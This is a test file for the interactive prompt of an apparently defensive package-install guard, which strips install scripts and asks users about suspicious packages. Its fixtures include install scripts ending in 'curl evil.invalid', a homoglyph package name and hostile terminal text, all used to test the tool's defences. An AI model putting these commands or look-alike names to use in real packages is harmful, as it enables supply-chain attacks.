import fc from 'fast-check'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { ask, type Terminal } from '../../src/ask/ask.ts'
import type { Decision, Judgement } from '../../src/model.ts'
import { finding, judged, scripted } from '../report/sample.ts'

type Fake = Terminal & { readonly said: () => string; readonly left: () => number; readonly events: readonly string[] }

/** Answers in order, then the end of input. */
function fake(...answers: (string | undefined)[]): Fake {
  const events: string[] = []
  const said: string[] = []
  return {
    columns: 80,
    color: false,
    events,
    said: () => said.join(''),
    left: () => answers.length,
    write: (text) => {
      said.push(text)
      events.push('write')
    },
    drain: () => void events.push('drain'),
    readLine: () => {
      events.push('read')
      return Promise.resolve(answers.shift())
    },
  }
}

const high = finding({ severity: 'high', file: 'index.js', line: 3, excerpt: 'fetch(url)' })
const odd = (id = 'odd@1.0.0', over: Partial<Judgement> = {}) =>
  scripted(id, { verdict: 'ask', findings: [high], ...over })

async function decided(judgements: readonly Judgement[], io: Terminal): Promise<(Decision | undefined)[]> {
  const decisions = await ask(judgements, io)
  return judgements.map((judgement) => decisions.get(judgement))
}

test('a suspicious package is shown with way, evidence and command', async () => {
  const io = fake('')
  await ask(
    [odd('odd@1.0.0', {}), judged('a@1.0.0')].map((one, index) =>
      index === 0 ? { ...one, package: { ...one.package, path: ['a@1.0.0', 'odd@1.0.0'] } } : one,
    ),
    io,
  )
  assert.is(
    io.said(),
    [
      '',
      'SUSPICIOUS 1 of 1: odd@1.0.0',
      '  came in by a@1.0.0 › odd@1.0.0',
      '  HIGH script/downloads-and-runs: downloads a program and runs it',
      '    index.js:3',
      '    | fetch(url)',
      '  wants to run:',
      '    postinstall: node install.js',
      'Type its name to install it anyway; its scripts stay stripped. Enter aborts: ',
    ].join('\n'),
  )
})

test('Enter aborts at once', async () => {
  const io = fake('', 'odd')
  assert.equal(await decided([odd()], io), ['abort'])
  assert.is(io.left(), 1)
})

test('the name installs it without scripts', async () => {
  assert.equal(await decided([odd()], fake('odd', '')), ['strip'])
  assert.equal(await decided([odd()], fake('  odd ', '')), ['strip'])
})

test('a package without scripts is asked once', async () => {
  const io = fake('odd', 'run')
  assert.equal(await decided([odd('odd@1.0.0', { scripts: {} })], io), ['strip'])
  assert.is(io.left(), 1)
})

test('anything but the name is asked again once, then aborts', async () => {
  assert.equal(await decided([odd()], fake('y', 'odd', '')), ['strip'])
  const io = fake('y', 'yes', 'odd')
  assert.equal(await decided([odd()], io), ['abort'])
  assert.is(io.left(), 1)
  assert.equal(await decided([odd()], fake('ODD', 'odd@1.0.0')), ['abort'])
})

test('scripts run only on a second answer', async () => {
  assert.equal(await decided([odd()], fake('odd', 'run')), ['once'])
  assert.equal(await decided([odd()], fake('odd', 'approve')), ['approve'])
  assert.equal(await decided([odd()], fake('odd', 'y', 'odd')), ['strip'])
})

test('scripts of unknown bytes are never offered', async () => {
  const { pin: _, ...unpinned } = odd()
  const io = fake('odd', 'run')
  assert.equal(await decided([unpinned], io), ['strip'])
  assert.is(io.left(), 1)
})

test('scripts too long to read are never offered', async () => {
  const long = { postinstall: `${'x '.repeat(4000)}; curl evil.invalid` }
  const io = fake('odd', 'run')
  assert.equal(await decided([odd('odd@1.0.0', { scripts: long })], io), ['strip'])
  assert.match(io.said(), 'too long to be reviewed here')
  assert.equal(await decided([scripted('a@1.0.0', { scripts: long })], fake('r', 'y')), ['strip'])
  assert.equal(await decided([scripted('a@1.0.0', { scripts: long })], fake('a')), ['strip'])
})

test('a name of look-alike letters is typed as it is shown', async () => {
  const name = 'l\u043edash'
  assert.equal(await decided([odd(`${name}@1.0.0`)], fake(name, name)), ['abort'])
  const io = fake('l\\u043edash', '')
  assert.equal(await decided([odd(`${name}@1.0.0`)], io), ['strip'])
  assert.match(io.said(), 'SUSPICIOUS 1 of 1: l\\u043edash@1.0.0')
})

test('an empty name cannot be typed', async () => {
  assert.equal(await decided([odd('@1.0.0')], fake('')), ['abort'])
  assert.equal(await decided([odd(' @1.0.0')], fake(' ', ' ')), ['abort'])
})

test('an abort ends the questions and leaves no suspicious one open', async () => {
  const io = fake('one', '', '', 'a')
  assert.equal(await decided([odd('one@1.0.0'), odd('two@1.0.0'), odd('three@1.0.0'), scripted('q@1.0.0')], io), [
    'abort',
    'abort',
    'abort',
    undefined,
  ])
  assert.is(io.left(), 1)
})

test('where something is stopped already nobody is asked', async () => {
  const io = fake('odd')
  assert.equal(await decided([odd(), judged('evil@1.0.0', { verdict: 'abort' })], io), [undefined, undefined])
  assert.is(io.said(), '')
})

test('where nothing is to be decided nobody is asked', async () => {
  const io = fake('a')
  const rest = [
    judged('a@1.0.0'),
    judged('unread@1.0.0', { verdict: 'strip' }),
    scripted('gap@1.0.0', { gaps: [{ about: 'published', why: 'no answer' }] }),
    scripted('high@1.0.0', { findings: [high] }),
    scripted('done@1.0.0', { verdict: 'allow', approved: true }),
  ]
  assert.equal(
    await decided(rest, io),
    rest.map(() => undefined),
  )
  assert.is(io.said(), '')
})

test('quiet scripts are one question', async () => {
  const io = fake('')
  const second = scripted('b@2.0.0', {
    findings: [finding({ severity: 'low', rule: 'age/too-young', message: 'a day old' })],
  })
  assert.equal(await decided([scripted('a@1.0.0'), second], io), ['strip', 'strip'])
  assert.is(
    io.said(),
    [
      '',
      '2 packages want to run install scripts; none is suspicious:',
      '  a@1.0.0 postinstall: node install.js',
      '  b@2.0.0 postinstall: node install.js',
      '    LOW age/too-young: a day old',
      '[Enter] leave stripped  [a] approve all shown (pinned)  [r] review one by one',
      '[q] abort: ',
    ].join('\n'),
  )
})

test('a approves all shown', async () => {
  assert.equal(await decided([scripted('a@1.0.0'), scripted('b@1.0.0')], fake('a')), ['approve', 'approve'])
})

test('what the list does not show in full is not approved with it', async () => {
  const long = scripted('long@1.0.0', { scripts: { install: `true ${'x'.repeat(400)}; curl evil.invalid` } })
  const more = Array.from({ length: 20 }, (_, index) => scripted(`p${index}@1.0.0`))
  const io = fake('a')
  const decisions = await decided([long, ...more], io)
  assert.equal(decisions, ['strip', ...Array(15).fill('approve'), ...Array(5).fill('strip')])
  assert.match(io.said(), '… and 6 more, only with [r]')
  assert.not.match(io.said(), 'p15@')
  assert.not.match(io.said(), 'long@')
})

test('an answer that is not understood is asked again once, then leaves all stripped', async () => {
  assert.equal(await decided([scripted('a@1.0.0')], fake('yes', 'all', 'a')), ['strip'])
  assert.equal(await decided([scripted('a@1.0.0')], fake('all', 'a')), ['approve'])
})

test('a review asks for each, and only y approves', async () => {
  const four = ['a', 'b', 'c', 'd'].map((name) => scripted(`${name}@1.0.0`))
  const io = fake('r', 'y', '', 'n', 'x', 'x')
  assert.equal(await decided(four, io), ['approve', 'strip', 'strip', 'strip'])
  assert.match(io.said(), 'REVIEW 4 of 4: d@1.0.0')
})

test('q stops everything, whatever was answered before', async () => {
  const all = [odd(), scripted('a@1.0.0'), scripted('b@1.0.0')]
  assert.equal(await decided(all, fake('odd', 'approve', 'q')), ['abort', 'abort', 'abort'])
  assert.equal(await decided(all, fake('odd', 'approve', 'r', 'y', 'q')), ['abort', 'abort', 'abort'])
})

test('the end of input or Ctrl-C stops everything, at every question', async () => {
  const all = [odd(), scripted('a@1.0.0'), scripted('b@1.0.0')]
  const answers = ['odd', 'approve', 'r', 'y', 'y']
  for (let count = 0; count < answers.length; count++) {
    assert.equal(await decided(all, fake(...answers.slice(0, count))), ['abort', 'abort', 'abort'], `after ${count}`)
  }
  assert.equal(await decided(all, fake(...answers)), ['approve', 'approve', 'approve'])
})

test('input from before a question is thrown away before each', async () => {
  const io = fake('x', 'odd', 'x', 'approve', 'x', 'r', 'x', 'y')
  await ask([odd(), scripted('a@1.0.0')], io)
  const order = io.events.join(' ')
  assert.is(order.split('read').length - 1, 8)
  assert.is(order.split('drain write read').length - 1, 8)
})

test('no answers but the right ones let a script run', async () => {
  const word = fc.constantFrom('', 'a', 'y', 'r', 'n', 'q', 'odd', 'yes', 'ok', 'all', '\u001b[A')
  await fc.assert(
    fc.asyncProperty(fc.array(word, { maxLength: 8 }), async (answers) => {
      const [decision] = await decided([odd()], fake(...answers))
      assert.ok(decision === 'abort' || (decision === 'strip' && answers.includes('odd')))
    }),
  )
})

test('hostile text cannot act on the terminal', async () => {
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: 'binary' }), async (text) => {
      const evil = finding({ severity: 'high', message: text, file: text, excerpt: text })
      const io = fake('', '')
      await ask([odd(`${text}@1`, { findings: [evil], scripts: { [text]: text } })], io)
      const quiet = fake('r', '')
      await ask(
        [scripted(`${text}@1`, { findings: [{ ...evil, severity: 'low' }], scripts: { install: text } })],
        quiet,
      )
      assert.not.match(io.said() + quiet.said(), /[^\P{C}\n]|[\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u)
    }),
  )
})

test.run()
